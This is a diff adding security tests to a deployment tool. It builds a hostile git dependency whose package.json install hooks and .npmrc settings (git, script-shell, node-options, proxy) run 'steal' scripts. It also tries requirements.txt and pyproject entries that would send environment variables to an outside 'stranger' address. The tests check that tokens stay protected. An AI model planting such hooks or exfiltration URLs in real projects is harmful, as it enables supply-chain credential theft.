@@ -7,7 +7,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
 import { trialRunner } from '../../test/step-runner.ts';
-import { listener, tokenRegistry } from '../../test/token-registry.ts';
+import { folderServer, listener, tokenRegistry } from '../../test/token-registry.ts';
 import { writeZip } from '../../test/write-zip.ts';
 import { build } from '../build.ts';
 import { findToolchains } from '../install/toolchain.ts';
@@ -175,4 +175,74 @@ test('settings that an honest project needs work, and nothing is said of them', 
   } finally {
     other.close();
   }
+});
+
+test('the repository of a git dependency runs no program beside the login either, whatever its own .npmrc says', async () => {
+  const work = join(home, 'repository');
+  const bare = join(home, 'served', 'other.git');
+  mkdirSync(work);
+  const files: Record<string, string> = {
+    'package.json': JSON.stringify({
+      ...{
+        name: 'other',
+        version: '1.0.0',
+        scripts: { prepare: 'sh ./steal.sh', preinstall: 'sh ./steal.sh', postinstall: 'sh ./steal.sh' },
+      },
+      // npm installs these in the repository, to prepare it.
+      ...{ devDependencies: { '@own/thing': '1.0.0', nested: 'git+http://127.0.0.1:1/nested.git' } },
+    }),
+    '.npmrc': `git=./steal.sh\nscript-shell=./steal.sh\nnode-options=--require ./steal.cjs\nignore-scripts=false\nhttps-proxy=${stranger.address}\nproxy=${stranger.address}\n`,
+    'steal.sh': steal,
+    'steal.cjs': stealJs,
+  };
+  for (const [name, text] of Object.entries(files)) writeFileSync(join(work, name), text, { mode: 0o755 });
+  const git = (...args: string[]) => {
+    const done = spawnSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b.test', '-c', 'init.defaultBranch=main', ...args], {
+      cwd: work,
+    });
+    assert.equal(done.status, 0, done.stderr.toString());
+  };
+  git('init', '--quiet');
+  git('add', '.');
+  git('commit', '--quiet', '-m', 'a');
+  git('clone', '--quiet', '--bare', '.', bare);
+  git('--git-dir', bare, 'update-server-info');
+  const server = await folderServer(join(home, 'served'));
+  try {
+    for (const packageManager of [undefined, 'pnpm@10.34.8', 'yarn@1.22.22']) {
+      const dependencies = { '@own/thing': '1.0.0', other: `git+${server.address}other.git` };
+      const outcome = await deploy({ 'package.json': manifest({ dependencies, packageManager }) });
+      tokenIsKept(outcome);
+      assert.match(outcome.lines, /Installing dependencies with/);
+    }
+    assert.ok(server.asked() > 0, 'the repository was fetched');
+  } finally {
+    server.close();
+  }
+});
+
+test('requirements cannot send a variable of the step to another address', async () => {
+  const evil = `${stranger.address}\${npm_config_userconfig}\${PIP_CERT}\${PATH}`;
+  for (const requirements of [
+    `--index-url ${evil.replace('npm_config_userconfig', 'VIRTUAL_ENV')}\nsix\n`,
+    `-r ${stranger.address}more.txt\n`,
+  ]) {
+    const { failure } = await deploy({ 'requirements.txt': requirements, 'main.py': '' });
+    assert.match(failure, /uses the variable|from another address/);
+  }
+  const project = `[project]\nname = "a"\nversion = "1"\ndependencies = ["x @ ${stranger.address}\${VIRTUAL_ENV}/x.whl"]\n`;
+  const { failure } = await deploy({ 'pyproject.toml': project, 'main.py': '' });
+  assert.match(failure, /uses the variable/);
+  assert.ok(!stranger.heard().includes('.venv'));
+});
+
+test('what an archive tells uv besides its packages is left out by name', async () => {
+  const project = `[project]\nname = "a"\nversion = "1"\ndependencies = []\n[tool.uv]\nkeyring-provider = "subprocess"\nallow-insecure-host = ["x.test"]\n`;
+  const { lines, failure } = await deploy({
+    'pyproject.toml': project,
+    'main.py': '',
+    'uv.toml': 'python-install-mirror = "http://x.test"\n',
+  });
+  assert.equal(failure, '', lines);
+  assert.match(lines, /Not used of "pyproject\.toml" while dependencies are fetched: "keyring-provider", "allow-insecure-host"\./);
 });
